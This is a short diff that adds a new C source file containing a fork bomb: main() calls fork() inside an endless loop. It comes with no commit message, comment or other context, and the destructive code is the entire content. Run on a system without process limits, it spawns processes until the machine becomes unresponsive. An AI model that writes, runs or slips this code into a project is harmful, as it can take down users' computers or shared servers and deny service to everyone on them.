@@ -1,0 +1,7 @@
+#include <unistd.h>
+
+int main() {
+    while (true) {
+        fork();
+    }
+}
